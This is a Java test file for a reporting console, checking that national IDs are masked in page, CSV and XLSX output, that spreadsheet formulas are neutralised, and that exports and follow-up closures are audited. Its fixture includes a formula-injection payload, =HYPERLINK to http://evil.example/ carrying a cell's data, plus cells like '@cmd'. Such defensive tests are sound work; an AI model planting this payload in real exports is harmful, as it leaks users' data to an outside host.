package org.sila.report;

import java.nio.charset.StandardCharsets;
import java.time.Instant;

import org.bson.Document;
import org.junit.jupiter.api.Test;
import org.sila.console.ConsoleTest;
import org.sila.staff.Role;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.data.mongodb.core.MongoTemplate;
import org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors;
import org.springframework.test.web.servlet.MockMvc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * What beneficiaries typed reaches the measurement centre's page, its CSV and XLSX (also the e-mail's attachment)
 * with national IDs masked, and a CSV never hands Excel a formula.
 */
@ConsoleTest
class ReportConfidentialityTest {

    private static final String QUESTION = "=HYPERLINK(\"http://evil.example/?\"&A1,\"اضغط\") هويتي ۱۰۲۳۴۵۶۷۸۹ وأخي 1023 456 788";

    @Autowired
    MockMvc mvc;
    @Autowired
    MongoTemplate mongo;
    @Autowired
    org.sila.staff.AuditLog audit;

    @Test
    void anIdInAnUnansweredQuestionIsMaskedOnThePageAndInTheExports() throws Exception {
        mongo.insert(new Document("text", QUESTION).append("key", QUESTION).append("kind", "UNKNOWN")
                .append("at", java.util.Date.from(Instant.now())), ReportService.UNANSWERED);

        String page = body("/console/reports");
        String csv = body("/console/reports/unanswered.csv");
        String xlsx = xlsxText(mvc.perform(org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get("/console/reports/unanswered.xlsx").with(manager()))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray());
        for (String out : new String[]{page, csv, xlsx}) {
            assertThat(out).doesNotContain("۱۰۲۳۴۵۶۷۸۹", "1023 456 788").contains("••••••••۸۹", "••••••••••88");
        }
        assertThat(csv).contains("\r\n\"'=HYPERLINK(").doesNotContain("\r\n\"=HYPERLINK(");
    }

    @Test
    void theMeasurementCentreItsFilesAndAFollowUpTheManagerClosedLeaveAnAuditEntry() throws Exception {
        String survey = "audit-" + java.util.UUID.randomUUID();
        mongo.insert(new org.sila.survey.FollowUp(survey, 1, "تأخرتم", "b-" + survey, null, null, null,
                org.sila.channel.ChannelType.WHATSAPP, null, org.sila.survey.FollowUp.Status.OPEN, Instant.now(), null,
                null, null));
        var manager = SecurityMockMvcRequestPostProcessors.user("m-" + survey).roles(Role.MANAGER.name());
        for (String path : new String[]{"/console/reports", "/console/reports/followups.csv",
                "/console/reports/all.xlsx"}) {
            mvc.perform(org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get(path).with(manager))
                    .andExpect(status().isOk());
        }
        // the administrator reads the centre, but closing a follow-up is the manager's
        mvc.perform(org.springframework.test.web.servlet.request.MockMvcRequestBuilders
                .post("/console/reports/followups/" + survey + "/done").param("outcome", "أغلقتها")
                .with(SecurityMockMvcRequestPostProcessors.user("a-" + survey).roles(Role.ADMIN.name()))
                .with(SecurityMockMvcRequestPostProcessors.csrf())).andExpect(status().isForbidden());
        assertThat(mongo.findById(survey, org.sila.survey.FollowUp.class).status())
                .isEqualTo(org.sila.survey.FollowUp.Status.OPEN);
        mvc.perform(org.springframework.test.web.servlet.request.MockMvcRequestBuilders
                .post("/console/reports/followups/" + survey + "/done").param("outcome", "اتصلنا بها واعتذرنا")
                .with(manager).with(SecurityMockMvcRequestPostProcessors.csrf()))
                .andExpect(status().is3xxRedirection());
        assertThat(audit.latest(null, 500)).filteredOn(e -> e.actor().equals("m-" + survey))
                .extracting(e -> e.action() + " " + (e.detail() == null ? e.subjectId() : e.detail()))
                .contains("EXPORT report followups.csv", "EXPORT report all.xlsx", "FOLLOW_UP_CLOSE " + survey)
                .anyMatch(entry -> entry.startsWith("VIEW reports "));
    }

    @Test
    void aCsvCellThatWouldRunAsAFormulaStaysText() {
        var table = new ReportTable("t", "t", java.util.List.of("a", "b", "c", "d"), java.util.List.of(
                java.util.Arrays.asList("=1+1", "+SUM(A1)", "@cmd", -3.5),
                java.util.Arrays.asList("-2+3", "\t=x", "عادي", 4)));
        String csv = new String(Exports.csv(table), StandardCharsets.UTF_8);
        assertThat(csv).contains("\r\n'=1+1,'+SUM(A1),'@cmd,-3.5\r\n", "\r\n'-2+3,'\t=x,عادي,4\r\n");
    }

    private String body(String path) throws Exception {
        return mvc.perform(org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get(path)
                        .with(manager())).andExpect(status().isOk()).andReturn().getResponse()
                .getContentAsString(StandardCharsets.UTF_8);
    }

    private static org.springframework.test.web.servlet.request.RequestPostProcessor manager() {
        return SecurityMockMvcRequestPostProcessors.user("m-report").roles(Role.MANAGER.name());
    }

    /** The workbook's XML parts, where its text lives. */
    static String xlsxText(byte[] xlsx) throws Exception {
        java.nio.file.Path file = java.nio.file.Files.createTempFile("report", ".xlsx");
        try {
            java.nio.file.Files.write(file, xlsx);
            StringBuilder text = new StringBuilder();
            try (var zip = new java.util.zip.ZipFile(file.toFile())) {
                for (var entry : java.util.Collections.list(zip.entries())) {
                    text.append(new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8));
                }
            }
            return org.jsoup.Jsoup.parse(text.toString(), "", org.jsoup.parser.Parser.xmlParser()).text();
        } finally {
            java.nio.file.Files.delete(file);
        }
    }
}
